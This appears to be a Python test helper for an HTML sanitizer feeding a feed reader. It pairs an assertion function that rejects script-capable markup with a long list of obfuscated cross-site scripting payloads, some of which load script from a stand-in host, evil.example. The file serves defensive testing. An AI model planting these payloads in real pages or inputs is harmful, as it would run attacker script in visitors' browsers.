"""Hostile HTML vectors and `assert_inert`, for any test whose output reaches a feed reader.

HOSTILE_VECTORS covers script tags, event handlers, javascript:/vbscript:/data: URLs with entity,
whitespace, control-character and case obfuscation, SVG and MathML script, CSS expressions,
embeds, forms, meta refresh, <base>, srcset, mutation-XSS shapes, comment and CDATA tricks,
unclosed tags, null bytes and fused tag names. `assert_inert(html)` parses a result the way a
reader might (Python's html.parser and lxml) and fails on anything that could run script.
"""

from __future__ import annotations

import html as html_lib
import re
import warnings

from bs4 import BeautifulSoup, MarkupResemblesLocatorWarning, Tag

HOSTILE_VECTORS: tuple[str, ...] = (
    # script elements
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<script/src="data:text/javascript,alert(1)"></script>',
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    # event handlers
    "<img src=x onerror=alert(1)>",
    '<img src="https://example.org/a.jpg" onload="alert(1)">',
    "<body onload=alert(1)>",
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<a href="https://example.org/" onclick="alert(1)" target=_blank>x</a>',
    "<p id=x class=y onclick=alert(1)>x</p>",
    "<audio src=x onerror=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<frameset onload=alert(1)>",
    "<img src=x onerror=alert(1)",
    # javascript:, vbscript: and data: URLs, obfuscated
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<img src=JaVaScRiPt:alert(1)>",
    '<img src="jav&#x09;ascript:alert(1)">',
    '<img src="jav&#x0A;ascript:alert(1)">',
    '<img src=" javascript:alert(1)">',
    '<img src="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">',
    '<img src="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="java\x00script:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href="java&NewLine;script:alert(1)">x</a>',
    '<a href="jav&#x0D;ascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="javascript&#58alert(1)">x</a>',
    '<a href="  JAVASCRIPT:alert(1)">x</a>',
    '<a href="javas&#99;ript:alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
    '&#0000112&#0000116&#0000058alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<blockquote cite="javascript:alert(1)">q</blockquote>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">',
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg><use href="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "<math><style><img src=x onerror=alert(1)></style></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    # CSS
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width: expression(alert(1));">x</div>',
    '<p style="behavior: url(xss.htc)">x</p>',
    '<img src="https://example.org/a.jpg" style="width:expression(alert(1))">',
    '<a href="https://example.org" style="position:fixed;top:0;left:0">x</a>',
    "<style>@import 'javascript:alert(1)';</style>",
    '<style>body{background:url("javascript:alert(1)")}</style>',
    '<link rel=stylesheet href="javascript:alert(1)">',
    '<link rel="import" href="https://evil.example/x.html">',
    # frames, embeds, forms, document-level tags
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>',
    "<object><param name=src value=javascript:alert(1)></object>",
    '<embed src="javascript:alert(1)">',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<applet code="x.class"></applet>',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    "<isindex action=javascript:alert(1) type=submit>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    '<base href="javascript:alert(1)//">',
    # srcset and picture
    '<img srcset="javascript:alert(1) 1x, https://example.org/a.jpg 2x">',
    '<img srcset="javascript:alert(1)">',
    '<picture><source srcset="javascript:alert(1)"><img src=x onerror=alert(1)></picture>',
    '<img data-src="javascript:alert(1)" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">',
    '<img src="https://images.weserv.nl/?url=javascript:alert(1)">',
    # mutation XSS, raw-text elements, comments and CDATA
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    '<p>unclosed <b><i><a href="javascript:alert(1)">',
    '<a href="javascript:/*--></title></style></textarea></script><svg/onload=\'+/"/+/'
    "onmouseover=1/+/[*/[]/+alert(1)//'>x</a>",
    # fused tag names and a mirror's renamed links
    "<imgonerror=alert(1) src=x>",
    '<divonmouseover="alert(1)">hover</div>',
    "<aonclick=alert(1) href=#>x</a>",
    '<ok href="javascript:alert(1)">x</ok>',
    '<ok href="java&#x09;script:alert(1)" onclick=alert(1)>x</ok>',
)


def _names(text: str) -> frozenset[str]:
    return frozenset(text.split())


FORBIDDEN_TAGS = _names(
    "script style iframe frame frameset object embed applet svg math form input button "
    "textarea select base meta link noscript template xmp plaintext"
)
URL_ATTRIBUTES = _names(
    "href src srcset action formaction poster background cite data xlink:href longdesc "
    "lowsrc dynsrc usemap codebase manifest ping icon"
)
SAFE_SCHEMES = frozenset({"http", "https", "mailto"})
_SCHEME_RE = re.compile(r"^([a-z][a-z0-9+.\-]*):", re.IGNORECASE)
_URL_NOISE_RE = re.compile(r"[\x00-\x20\x7f]")


def assert_inert(html: str) -> None:
    """Fail unless `html`, read by html.parser and by lxml, holds nothing that can run script.

    No script-capable or document-level tag, no on* handler, no style attribute, and every
    URL attribute (each srcset candidate too) uses http, https or mailto once entities are
    decoded and whitespace and control characters removed, as browsers do.
    """
    for parser in ("html.parser", "lxml"):
        with warnings.catch_warnings():
            warnings.simplefilter("ignore", MarkupResemblesLocatorWarning)
            soup = BeautifulSoup(html, parser)
        for tag in soup.find_all(True):
            _assert_tag_inert(tag, parser)


def _assert_tag_inert(tag: Tag, parser: str) -> None:
    name = tag.name.lower().rsplit(":", 1)[-1]
    assert name not in FORBIDDEN_TAGS, f"{parser}: forbidden <{tag.name}> in output"
    for key, value in tag.attrs.items():
        key = key.lower()
        text = value if isinstance(value, str) else " ".join(value)
        assert not key.startswith("on"), f"{parser}: handler {key}={text!r} on <{tag.name}>"
        assert key != "style", f"{parser}: style={text!r} on <{tag.name}>"
        if key in URL_ATTRIBUTES:
            for url in _urls(key, text):
                scheme = url_scheme(url)
                assert scheme in SAFE_SCHEMES, f"{parser}: {key}={text!r} on <{tag.name}>"


def _urls(key: str, value: str) -> list[str]:
    if key != "srcset":
        return [value]
    return [candidate.split()[0] for candidate in value.split(",") if candidate.strip()]


def url_scheme(url: str) -> str | None:
    """The scheme a browser would see: entities decoded, whitespace and controls removed."""
    normalized = _URL_NOISE_RE.sub("", html_lib.unescape(url))
    match = _SCHEME_RE.match(normalized)
    return match.group(1).lower() if match else None
